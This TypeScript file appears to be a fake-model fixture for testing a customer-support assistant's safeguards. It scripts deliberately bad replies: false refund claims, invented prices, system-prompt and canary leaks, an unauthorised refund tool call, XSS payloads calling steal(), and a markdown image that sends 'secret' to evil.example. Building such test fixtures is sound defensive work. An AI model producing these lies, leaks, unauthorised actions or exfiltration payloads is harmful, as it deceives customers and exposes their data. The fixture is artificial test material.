import type { Behaviour, Saying, WireRequest } from "./state.ts";

interface Source {
  readonly id: string;
  readonly text: string;
}

type Author = (request: WireRequest, behaviour: Behaviour) => Saying;

const contentOf = (request: WireRequest, role: string): string =>
  request.messages.findLast((message) => message.role === role)?.content ?? "";
const fromData = (text: string): string =>
  text
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, "&");
const wordsOf = (text: string): ReadonlySet<string> =>
  new Set((text.toLowerCase().match(/\p{L}{3,}|\d+/gu) ?? []).map((word) => word.slice(0, 6)));
const shared = (a: ReadonlySet<string>, b: ReadonlySet<string>): number => [...a].filter((word) => b.has(word)).length;

function sourcesOf(request: WireRequest): readonly Source[] {
  return [...contentOf(request, "user").matchAll(/<source id="([^"]+)" tier="(\w+)"[^>]*>([^<]*)<\/source>/g)]
    .filter((match) => match[2] !== "bronze")
    .map((match) => ({ id: match[1] ?? "", text: fromData(match[3] ?? "") }));
}

const questionOf = (request: WireRequest): string =>
  fromData(/<customer>([^<]*)<\/customer>/.exec(contentOf(request, "user"))?.[1] ?? "");
const reply = (text: string, citations: readonly string[]): Saying => ({
  content: JSON.stringify({ text, citations }),
});

/** As a good model would: the passages that speak of what was asked, in their own words, with their ids. */
function truth(request: WireRequest): { readonly text: string; readonly ids: readonly string[] } {
  const asked = wordsOf(questionOf(request));
  const ranked = sourcesOf(request)
    .map((source, at) => ({ source, score: shared(asked, wordsOf(source.text)) - at }))
    .sort((a, b) => b.score - a.score)
    .map(({ source }) => source);
  const best = ranked[0];
  return best ? { text: best.text, ids: [best.id] } : { text: "I do not know.", ids: [] };
}

function honestIntent(request: WireRequest): Saying {
  const message = wordsOf(String(JSON.parse(contentOf(request, "user")).message));
  const intents = [...contentOf(request, "system").matchAll(/^- (\S+) \([^)]*\): (.*)$/gm)].map((match) => {
    const examples = (match[2] ?? "").split(" | ").map(wordsOf);
    return {
      id: match[1] ?? "",
      score: Math.max(...examples.map((example) => shared(message, example) / Math.max(3, example.size))),
    };
  });
  const best = intents.sort((a, b) => b.score - a.score)[0];
  return { content: JSON.stringify({ intent: best && best.score > 0.5 ? best.id : "none", secondary: null }) };
}

/** The truth and a lie behind it, with a source that does exist: the hardest kind to notice. */
const truthAnd =
  (lie: string | ((behaviour: Behaviour, request: WireRequest) => string)): Author =>
  (request, behaviour) => {
    const { text, ids } = truth(request);
    return reply(`${text} ${typeof lie === "string" ? lie : lie(behaviour, request)}`, ids);
  };

const authors: Readonly<Record<string, Author>> = {
  honest: (request) => {
    const { text, ids } = truth(request);
    return reply(text, ids);
  },
  "claims-refund": truthAnd("I have refunded 50.00 EUR to your card."),
  "promises-call": truthAnd("A colleague will call you tomorrow at 9:00."),
  "invents-price": truthAnd("It costs only 3.33 EUR today."),
  "leaks-prompt": (request) => reply(contentOf(request, "system"), truth(request).ids),
  "leaks-canary": truthAnd((_, request) => /swb-[0-9a-f-]+/.exec(contentOf(request, "system"))?.[0] ?? "no canary"),
  "other-product": (_, { values }) =>
    reply(values?.["text"] ?? "The other one is better.", [values?.["source"] ?? "another-source"]),
  "other-product-right-source": (request, { values }) =>
    reply(`${truth(request).text} ${values?.["text"] ?? ""}`, truth(request).ids),
  "forbidden-tool": (request) => ({
    ...authors["honest"]?.(request, { respond: "", classify: "" }),
    calls: [{ name: "process_refund", arguments: '{"orderId":"NG-10311","amountCents":19900,"reason":"because"}' }],
  }),
  html: truthAnd('<img src=x onerror="steal()"><script>steal()</script>'),
  "html-around-the-truth": (request) => reply(`<b onclick=steal()>${truth(request).text}</b>`, truth(request).ids),
  emphasis: (request) => reply(`**${truth(request).text}**`, truth(request).ids),
  "markdown-link": truthAnd("[Click here](javascript:steal())"),
  "markdown-image": truthAnd("![receipt](https://evil.example/collect?q=secret)"),
  "foreign-token": truthAnd("We will write to ⟨EMAIL_77⟩ and ⟨PHONE_78⟩."),
  "foreign-address": truthAnd("Your account is mallory@evil.example."),
  /** Whatever the test puts into its mouth, with the right sources. */
  "own-words": (request, { values }) => reply(values?.["text"] ?? "", truth(request).ids),
  "broken-form": () => ({ content: '{"text": 7}' }),
  "invents-intent": () => ({ content: '{"intent":"hack_the_planet","secondary":null}' }),
  /** Sorts honestly when the instruction has the word that it wants to hear, and else gives up. */
  "needs-a-word": (request, { values }) =>
    contentOf(request, "system").includes(values?.["word"] ?? "")
      ? honestIntent(request)
      : { content: '{"intent":"none","secondary":null}' },
  intent: (_, { values }) => ({
    content: JSON.stringify({ intent: values?.["intent"] ?? "none", secondary: values?.["secondary"] ?? null }),
  }),
};

interface ToPrepare {
  readonly id: string;
  readonly question: string;
  readonly text: string;
}

/** As a good model would, or with `lie` behind each answer, or under the ids that `as` names. */
function prepared(request: WireRequest, { values }: Behaviour): Saying {
  const entries = JSON.parse(contentOf(request, "user")) as readonly ToPrepare[];
  const answers = entries.map(({ id, question, text }) => ({
    id: values?.["as"] ?? id,
    question,
    variants: [`I wonder: ${question}`],
    answer: [text, values?.["lie"]].filter(Boolean).join(" "),
  }));
  return { content: JSON.stringify({ answers }) };
}

/** The same verdict on every sentence, or what is no verdict at all. */
function verdicts(request: WireRequest, verdict: string): Saying {
  if (verdict === "nonsense") return { content: '{"verdicts":[{"sentence":1,"verdict":"surely"}]}' };
  const { sentences } = JSON.parse(contentOf(request, "user")) as { readonly sentences: readonly unknown[] };
  return { content: JSON.stringify({ verdicts: sentences.map((_, at) => ({ sentence: at + 1, verdict })) }) };
}

export const purposeOf = (request: WireRequest): string => request.response_format?.json_schema?.name ?? "other";

export function say(request: WireRequest, behaviour: Behaviour): Saying {
  if (behaviour.fixed !== undefined)
    return { content: typeof behaviour.fixed === "string" ? behaviour.fixed : JSON.stringify(behaviour.fixed) };
  switch (purposeOf(request)) {
    case "intent":
      return (behaviour.classify === "honest" ? honestIntent : authors[behaviour.classify])?.(request, behaviour) ?? {};
    case "summary":
      return { content: behaviour.values?.["summary"] ?? '{"facts":[]}' };
    case "prompt_variants":
      return { content: behaviour.values?.["variants"] ?? '{"variants":[]}' };
    case "prepared":
      return prepared(request, behaviour);
    case "entailment":
      return verdicts(request, behaviour.check ?? "unknown");
    case "reply":
      return authors[behaviour.respond]?.(request, behaviour) ?? {};
    default:
      return { content: "hello" };
  }
}
